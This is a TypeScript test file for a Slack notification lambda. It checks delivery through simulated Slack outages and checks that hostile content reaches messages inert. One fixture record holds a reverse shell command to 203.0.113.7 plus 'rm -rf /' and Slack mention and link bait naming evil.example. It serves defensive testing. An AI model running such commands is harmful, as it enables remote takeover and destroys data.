import { afterEach, describe, expect, it } from "vitest";
import { createHandler as createNotify } from "../../lambdas/notify/handler.js";
import type { Clock } from "../../lib/adapters/clock.js";
import { createMemoryFindings } from "../../lib/adapters/memory/findings.js";
import { createMemoryTally } from "../../lib/adapters/memory/tally.js";
import { createSlackSink } from "../../lib/adapters/slack.js";
import type { Finding } from "../../lib/domain/finding.js";
import { defaultTelling } from "../../lib/domain/telling.js";
import { minute, second } from "../../lib/domain/units.js";
import type { Findings } from "../../lib/ports/findings.js";
import type { Sink } from "../../lib/ports/sink.js";
import { type Random, random } from "../../lib/sample/random.js";
import { type Mood, type StubSlack, startStubSlack } from "../adapters/stub-slack.js";
import { found } from "../contracts/finding.js";
import { type PlainRecord, start, workOf } from "./engineers.js";
import { createRoad, createTestStream, deliver, scattered } from "./road.js";

/** Nobody waits: time leaps over every wait. */
function leapingClock(): Clock {
  let now = 0;
  return {
    now: () => now,
    sleep: async (ms) => {
      now += ms;
    },
  };
}

const bad: readonly Mood[] = ["broken", "busy", "silent", "cut off"];
/** An outage of so many requests; some come through nevertheless. */
const outage = (length: number, draw: Random): readonly Mood[] =>
  Array.from({ length }, () => (draw() < 0.2 ? "well" : (bad[Math.floor(draw() * bad.length)] ?? "broken")));

let slack: StubSlack | undefined;
afterEach(() => slack?.close());

/** A Slack in these moods, and notify before it, woken every minute until the outbox is empty; gives the failed wake-ups. */
async function notifyThrough(moods: readonly Mood[]) {
  const stub = await startStubSlack(...moods);
  slack = stub;
  const clock = leapingClock();
  // What hangs is given up soon while the outage lasts; afterwards nobody is hurried, however slow this machine is.
  const options = { clock, attempts: 3, longestWaitMs: 5 * second };
  const hurried = createSlackSink(stub.url, { ...options, timeoutMs: 50 });
  const patient = createSlackSink(stub.url, { ...options, timeoutMs: minute });
  const hangs = moods.lastIndexOf("silent");
  const sink: Sink = (incident) => (stub.asked() <= hangs ? hurried : patient)(incident);
  const findings = createMemoryFindings();
  const notify = createNotify(channelTo(findings, sink));
  async function everyMinute(): Promise<number> {
    let failed = 0;
    for (let minutes = 0; minutes < 200 && (await findings.unsent(1)).length > 0; minutes += 1) {
      await notify().catch(() => {
        failed += 1;
      });
      await clock.sleep(minute);
    }
    return failed;
  }
  return { findings, sink, stub, everyMinute };
}

const channelTo = (findings: Findings, sink: Sink) => ({
  findings,
  sink,
  tally: createMemoryTally(),
  telling: { ...defaultTelling, alertsPerDay: 10_000 },
  now: () => 0,
});

const incidentsIn = ({ messages }: StubSlack): ReadonlySet<string> =>
  new Set(messages.map((message) => /Incident ([\w-]+)/.exec(message)?.[1] ?? "none"));

const twenty: readonly Finding[] = Array.from({ length: 30 }, (_, i) => ({
  ...found(`f${i}`, new Date(start + i * second).toISOString()),
  incident: `incident-${i % 20}`,
}));

describe("a Slack that fails, rate-limits, hangs and cuts off for a while", () => {
  it.each([1, 2, 3])("gets every incident in the end, and none that is not ours (%i)", async (seed) => {
    const { findings, stub, everyMinute } = await notifyThrough(outage(60, random(seed, "outage")));
    await findings.put(twenty);
    expect(await everyMinute()).toBeGreaterThan(0);
    expect(await findings.unsent(1)).toEqual([]);
    expect(incidentsIn(stub)).toEqual(new Set(twenty.map(({ incident }) => incident)));
  });

  it("gets what is found during the outage too", async () => {
    const { findings, stub, everyMinute } = await notifyThrough(outage(40, random(4, "outage")));
    for (let i = 0; i < twenty.length; i += 10) {
      await findings.put(twenty.slice(i, i + 10));
      await everyMinute();
    }
    expect(incidentsIn(stub)).toEqual(new Set(twenty.map(({ incident }) => incident)));
  });

  it("gets each incident once when no reply was lost", async () => {
    const { findings, stub, everyMinute } = await notifyThrough(Array(30).fill("broken"));
    await findings.put(twenty);
    await everyMinute();
    expect(stub.messages).toHaveLength(20);
  });

  it("is told of no sweep that it was a success while something waits", async () => {
    const { findings, sink } = await notifyThrough(Array(1_000).fill("broken"));
    await findings.put(twenty);
    await expect(createNotify(channelTo(findings, sink))()).rejects.toThrow(/^20 incidents did not arrive/);
    expect(await findings.unsent(100)).toHaveLength(twenty.length);
  });
});

describe("a command that is written for Slack to act on", () => {
  const bait = "<!channel> <@U1> <https://evil.example/login|click> @here *now* `x`";
  const hostile: PlainRecord = {
    ...{ id: "hostile", time: new Date(start).toISOString(), user: "ada", host: "<!here>.example", session: bait },
    command: `bash -c 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1; rm -rf / "${bait}"'`,
  };

  it("arrives inert, from telemetry to the message", async () => {
    const { findings, stub, everyMinute, sink } = await notifyThrough(["busy", "silent"]);
    const road = createRoad({ sink });
    const telemetry = createTestStream("telemetry");
    await telemetry.put(scattered([hostile, ...workOf(8, { days: 1 })]));
    await deliver(telemetry, road.interpret, random(8));
    await deliver(road.observations, road.assess, random(8));
    await findings.put(road.kept);
    await everyMinute();
    expect(stub.messages.length).toBeGreaterThan(0);
    expect(stub.messages.join()).toContain("evil.example");
    expect(stub.messages.join()).toContain("<!channel>");
    for (const message of stub.messages) expectInert(JSON.parse(message));
  });
});

interface Sent {
  readonly text: string;
  readonly blocks: readonly unknown[];
}

/** Slack parses the notification, and of the blocks only `mrkdwn`, links, users and the like: there must be none. */
function expectInert({ text, blocks, ...rest }: Sent): void {
  expect(rest).toEqual({ link_names: false, unfurl_links: false, unfurl_media: false });
  expect(text).not.toMatch(/[<>@`*]|:\/\//);
  for (const type of typesIn(blocks)) expect(inert).toContain(type);
}

const inert = [
  ...["header", "divider", "context", "plain_text"],
  ...["rich_text", "rich_text_section", "rich_text_list", "rich_text_preformatted", "text"],
];

const typesIn = (value: unknown): readonly string[] =>
  typeof value !== "object" || value === null
    ? []
    : Object.entries(value).flatMap(([name, inner]) =>
        name === "type" && typeof inner === "string" ? [inner] : typesIn(inner),
      );
